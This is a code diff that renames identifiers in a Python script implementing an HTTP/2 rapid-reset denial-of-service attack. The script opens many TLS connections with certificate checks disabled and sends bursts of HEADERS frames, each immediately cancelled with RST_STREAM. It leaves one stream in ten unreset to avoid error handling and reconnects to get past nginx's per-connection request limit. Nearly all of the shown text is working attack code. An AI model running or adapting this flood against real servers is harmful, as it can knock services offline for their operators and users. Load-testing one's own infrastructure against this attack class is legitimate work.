@@ -15,18 +15,18 @@ from contextlib import contextmanager
 
 HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
 END_STREAM, END_HEADERS = 0x1, 0x4
-CANCEL = 8
+CANCEL_ERROR_CODE = 8
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 STREAMS_AT_ONCE = 100
 """Number of streams per write."""
 
-ONE_OF = 10
+UNRESET_STREAM_INTERVAL = 10
 """Number of streams of which one isn't reset: if an edge accepts none, it treats the frames as errors."""
 
 STREAMS_PER_CONNECTION = 1000
 """nginx ignores streams after `keepalive_requests`, so the client reconnects."""
 
-MOST_STREAMS = 200_000
+MAX_STREAMS = 200_000
 """Limit of one attack, after which it ends by itself."""
 
 
@@ -44,7 +44,7 @@ class Attack:
         with self._lock:
             self.streams += streams
             self.connections += connections
-            if self.streams >= MOST_STREAMS:
+            if self.streams >= MAX_STREAMS:
                 self.stop.set()
 
 
@@ -78,26 +78,26 @@ def _attack(attack: Attack, address: tuple[str, int], host: str, path: str, sour
     )
     while not attack.stop.is_set():
         try:
-            with _connected(address, host, source) as connection:
+            with _connect(address, host, source) as connection:
                 connection.sendall(PREFACE + _frame(SETTINGS, 0, 0, b""))
                 attack.sent(connections=1)
                 for first in range(1, 2 * STREAMS_PER_CONNECTION, 2 * STREAMS_AT_ONCE):
                     if attack.stop.is_set():
                         break
                     numbers = range(first, first + 2 * STREAMS_AT_ONCE, 2)
-                    connection.sendall(b"".join(_opened(number, block) for number in numbers))
+                    connection.sendall(b"".join(_request_headers_frame(number, block) for number in numbers))
                     attack.sent(streams=STREAMS_AT_ONCE)
         except OSError:
             # The edge may close the connection of such a client.
             continue
 
 
-def _opened(number: int, block: bytes) -> bytes:
-    """Return a stream's HEADERS, and its RST_STREAM except for the first stream of each `ONE_OF`."""
+def _request_headers_frame(number: int, block: bytes) -> bytes:
+    """Return a stream's HEADERS, and its RST_STREAM except for the first stream of each `UNRESET_STREAM_INTERVAL`."""
     opened = _frame(HEADERS, END_HEADERS | END_STREAM, number, block)
-    if number // 2 % ONE_OF == 0:
+    if number // 2 % UNRESET_STREAM_INTERVAL == 0:
         return opened
-    return opened + _frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL))
+    return opened + _frame(RST_STREAM, 0, number, struct.pack(">I", CANCEL_ERROR_CODE))
 
 
 def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
@@ -109,7 +109,7 @@ def _field(name: str, value: str) -> bytes:
     return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
 
 
-def _connected(address: tuple[str, int], host: str, source: str) -> ssl.SSLSocket:
+def _connect(address: tuple[str, int], host: str, source: str) -> ssl.SSLSocket:
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
     context.set_alpn_protocols(["h2"])
